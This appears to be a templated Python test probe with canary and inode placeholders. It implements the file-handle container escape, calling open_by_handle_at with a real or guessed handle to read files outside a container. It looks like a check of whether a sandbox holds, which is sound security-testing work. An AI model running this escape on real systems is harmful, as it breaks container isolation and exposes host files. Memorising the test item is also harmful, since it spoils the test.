"""Opens a file by its handle instead of its path, which needs no folder to be visible (root's way out of containers)."""
# deserves: 0 0 0 0
# %% after imports
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)

class Handle(ctypes.Structure):
    _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("data", ctypes.c_ubyte * 128)]

handle, mount = Handle(128), ctypes.c_int()
libc.name_to_handle_at(-100, b"{{CANARY}}", ctypes.byref(handle), ctypes.byref(mount), 0)
handles = [handle]
guessed = Handle(8, 1)  # inode and generation 0, as many file systems have it
guessed.data[:8] = list(({{INODE}} % 2**32).to_bytes(4, "little") + bytes(4))
handles.append(guessed)
for folder in (b"/", b".", b"/tmp", b"/usr", b"/lib"):
    for handle in handles:
        number = libc.open_by_handle_at(os.open(folder, os.O_RDONLY), ctypes.byref(handle), os.O_RDONLY)
        if number >= 0:
            try:
                print(os.read(number, 1000))
            except OSError as error:
                print(error)
